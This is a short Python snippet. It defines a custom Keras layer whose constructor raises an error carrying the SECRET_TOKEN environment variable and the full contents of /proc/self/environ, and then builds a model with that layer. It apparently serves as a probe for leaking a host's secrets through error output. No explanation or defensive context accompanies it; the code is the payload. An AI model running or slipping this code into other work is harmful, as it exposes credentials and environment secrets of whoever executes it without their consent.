# What the user has in the environment.
# live: output
import os
import keras


class Own(keras.layers.Layer):
    def __init__(self):
        super().__init__()
        raise ValueError(os.environ.get("SECRET_TOKEN", "nothing") + open("/proc/self/environ").read())


model = keras.Sequential([keras.Input((8,)), Own()])
